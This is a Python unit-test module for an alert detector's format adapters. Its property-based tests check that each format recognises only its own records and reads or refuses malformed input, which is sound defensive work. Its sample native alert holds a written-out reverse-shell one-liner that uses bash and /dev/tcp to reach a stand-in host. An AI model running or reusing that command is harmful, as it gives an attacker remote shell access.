"""What every registered adapter promises, checked for each format alike.

Each format reads its own records and no other format's (shapes are specific enough that a record
finds one adapter: a record two adapters recognised would be read by whichever is tried first), and
any JSON value, a damaged documented example or a damaged corpus record is read or refused with a
reason, never anything else. The documented examples are those each format's own test module is
written around (``EXAMPLES``); what is particular to one format stays in its module.
"""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.detector.adapters import ADAPTERS, FORMATS, Adapter
from tests.unit.adapters import (
    test_alertmanager,
    test_crowdstrike,
    test_defender,
    test_elastic,
    test_falco,
    test_guardduty,
    test_hayabusa,
    test_ocsf,
    test_osquery,
    test_pagerduty,
    test_sentinelone,
    test_suricata,
    test_user_report,
    test_wazuh,
    test_zeek,
)
from tests.unit.adapters.corpus import (
    SAMPLES,
    json_values,
    mutated,
    others,
    parses_or_refuses,
    recognised_by,
    samples,
)

# Vigil's native alert as the README shows it (``shared.alerts.Alert``).
NATIVE: dict[str, Any] = {
    "id": "a-1",
    "source": "falco",
    "title": "Reverse shell spawned in a container",
    "description": "bash -i >& /dev/tcp/203.0.113.45/4444",
    "severity": "critical",
    "time": "2026-11-24T09:03:00Z",
    "host": "bastion-01",
    "user": "deploy",
    "src_ip": "10.0.0.5",
    "dst_ip": "203.0.113.45",
    "labels": {"rule": "Reverse shell"},
    "raw": {},
}

# Each format's documented examples, by format name.
EXAMPLES: dict[str, list[Any]] = {
    "alertmanager": test_alertmanager.EXAMPLES,
    "crowdstrike": test_crowdstrike.EXAMPLES,
    "defender": test_defender.EXAMPLES,
    "elastic": test_elastic.EXAMPLES,
    "falco": test_falco.EXAMPLES,
    "guardduty": test_guardduty.EXAMPLES,
    "hayabusa": test_hayabusa.EXAMPLES,
    "native": [NATIVE],
    "ocsf": test_ocsf.EXAMPLES,
    "osquery": test_osquery.EXAMPLES,
    "pagerduty": test_pagerduty.EXAMPLES,
    "sentinelone": test_sentinelone.EXAMPLES,
    "suricata": test_suricata.EXAMPLES,
    "user_report": test_user_report.EXAMPLES,
    "wazuh": test_wazuh.EXAMPLES,
    "zeek": test_zeek.EXAMPLES,
}

EVERY_ADAPTER = [pytest.param(adapter, id=adapter.name) for adapter in ADAPTERS]
WITH_SAMPLES = [pytest.param(adapter, id=adapter.name) for adapter in ADAPTERS if adapter.name in SAMPLES]


def test_every_registered_format_has_documented_examples() -> None:
    assert sorted(EXAMPLES) == sorted(FORMATS)
    assert all(EXAMPLES.values())
    assert set(SAMPLES) <= set(FORMATS)


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
def test_its_examples_are_recognised_by_it_alone(adapter: Adapter) -> None:
    for number, example in enumerate(EXAMPLES[adapter.name], 1):
        assert recognised_by(example) == [adapter.name], f"example {number}"


@pytest.mark.parametrize("adapter", WITH_SAMPLES)
def test_its_corpus_records_are_recognised_by_it_alone_and_read_or_refused(adapter: Adapter) -> None:
    for number, record in enumerate(samples(adapter.name), 1):
        assert recognised_by(record) == [adapter.name], f"{adapter.name} sample {number}"
        parses_or_refuses(adapter, record)


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
def test_no_other_formats_corpus_record_looks_like_its_format(adapter: Adapter) -> None:
    assert [(directory, line) for directory, line, record in others(adapter.name) if adapter.matches(record)] == []


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
@settings(max_examples=300, deadline=None)
@given(payload=json_values)
def test_any_json_value_is_read_or_refused(adapter: Adapter, payload: Any) -> None:
    parses_or_refuses(adapter, payload)


@pytest.mark.parametrize("adapter", EVERY_ADAPTER)
@settings(max_examples=500, deadline=None)
@given(data=st.data())
def test_damaged_examples_are_read_or_refused(adapter: Adapter, data: st.DataObject) -> None:
    parses_or_refuses(adapter, data.draw(mutated(EXAMPLES[adapter.name])))


@pytest.mark.parametrize("adapter", WITH_SAMPLES)
@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_damaged_corpus_records_are_read_or_refused(adapter: Adapter, data: st.DataObject) -> None:
    parses_or_refuses(adapter, data.draw(mutated(samples(adapter.name))))
